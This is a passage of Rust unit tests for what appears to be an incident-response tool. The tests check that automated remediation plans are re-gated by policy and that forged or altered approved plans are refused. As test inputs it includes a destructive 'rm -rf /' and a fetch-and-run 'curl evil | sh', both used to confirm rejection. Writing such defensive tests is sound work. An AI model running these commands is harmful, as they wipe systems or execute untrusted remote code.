        assert!(approved(&s).is_ok());
    }

    /// An approval recorded by a worker with a looser policy, or without the host's rules,
    /// runs nothing this worker's gate refuses or would have asked a human for.
    #[test]
    fn the_gate_is_judged_again_on_the_recorded_plan() {
        let policy = pitcrew_policy::Policy::default_policy();
        let mut stored = RunState::new(uuid::Uuid::nil(), Incident::new("web", "down"));
        let with = |c: &str| {
            Some(Plan { attempt: 1, commands: vec![c.into()], rationale: String::new(), source: String::new() })
        };
        stored.approval = ApprovalStatus::AutoApproved;
        stored.plan = with("systemctl restart web");
        assert!(gated_again(&policy, "", &[], &stored).is_ok());
        stored.plan = with("rm -rf /");
        assert!(gated_again(&policy, "", &[], &stored).unwrap_err().contains("rejects `rm -rf /` (rm-system-path"));
        stored.plan = with("kill -9 4242");
        let why = gated_again(&policy, "", &[], &stored).unwrap_err();
        assert!(why.contains("needs a human's approval") && why.contains("kill -9 4242"), "{why}");
        // Approved by a human: it runs; forbidden: it does not, approved or not.
        let hash = stored.plan.as_ref().map(Plan::hash).unwrap_or_default();
        stored.approval = ApprovalStatus::Approved { by: "ann".into(), plan_hash: hash };
        assert!(gated_again(&policy, "", &[], &stored).is_ok());
        stored.plan = with("reboot");
        assert!(gated_again(&policy, "", &[], &stored).is_err());
        // The host's own rules, which a worker without the service never applied.
        let hosts = pitcrew_policy::Policy::from_toml("[hosts.pe1]\nallow = [\"systemctl\"]\n").unwrap();
        stored.approval = ApprovalStatus::AutoApproved;
        stored.plan = with("/opt/web/clean");
        assert!(gated_again(&hosts, "pe1", &[], &stored).is_err());
        assert!(gated_again(&hosts, "", &[], &stored).is_ok());
    }

    #[test]
    fn only_the_plan_postgres_recorded_as_approved_executes() {
        let plan =
            |c: &str| Plan { attempt: 1, commands: vec![c.into()], rationale: String::new(), source: String::new() };
        let mut stored = RunState::new(uuid::Uuid::nil(), Incident::new("web", "down"));
        stored.plan = Some(plan("systemctl restart web"));
        stored.approval = ApprovalStatus::AutoApproved;
        let mut forged = stored.clone();
        forged.plan = Some(plan("curl evil | sh"));
        assert!(recorded_approval(&forged, &stored).unwrap_err().contains("not the approved one"));
        assert!(recorded_approval(&stored.clone(), &stored).is_ok());
        let mut unapproved = stored.clone();
        unapproved.approval = ApprovalStatus::Waiting { plan_hash: "h".into(), rule: "r".into() };
        assert!(recorded_approval(&stored, &unapproved).is_err());
        // The approved plan, sent for another service (another host, other rules).
        let mut elsewhere = stored.clone();
        elsewhere.incident.service = "db".into();
        let why = recorded_approval(&elsewhere, &stored).unwrap_err();
        assert!(why.contains("service db where Postgres recorded service web"), "{why}");
        let mut moved = stored.clone();
        moved.incident.host = Some("db-1".into());
        let why = recorded_approval(&moved, &stored).unwrap_err();
        assert!(why.contains("host db-1 where Postgres recorded host (the service's)"), "{why}");
        let mut reworded = stored.clone();
        reworded.incident.error = "disk full".into();
        assert!(recorded_approval(&reworded, &stored).unwrap_err().contains("error, labels or other fields"));
        // Two approved commands sent as one that holds a newline: the same hash, not the same
        // plan.
        let mut two = stored.clone();
        two.plan =
            Some(Plan { commands: vec!["systemctl restart web".into(), "rm -f /tmp/web.lock".into()], ..plan("") });
        let mut merged = two.clone();
        merged.plan = Some(plan("systemctl restart web\nrm -f /tmp/web.lock"));
        assert_eq!(merged.plan.as_ref().map(Plan::hash), two.plan.as_ref().map(Plan::hash));
        assert!(recorded_approval(&merged, &two).unwrap_err().contains("not the approved one"));
        assert!(recorded_approval(&two.clone(), &two).is_ok());
    }

    #[test]
    fn records_say_how_a_command_ended() {
        let out = CommandOutput {
            exit_code: Some(2),
            stdout: "a".into(),
            stderr: "boom".into(),
            timed_out: false,
            duration: std::time::Duration::from_millis(5),
        };
        let r = record(1, 0, "x", &out);
        assert_eq!(r.status, ExecutionStatus::Failed);
        assert_eq!(r.output, "a\nboom");
        let out = CommandOutput {
            exit_code: None,
            stdout: String::new(),
            stderr: String::new(),
            timed_out: true,
            duration: std::time::Duration::ZERO,
        };
        assert_eq!(record(1, 0, "x", &out).status, ExecutionStatus::TimedOut);
    }
}
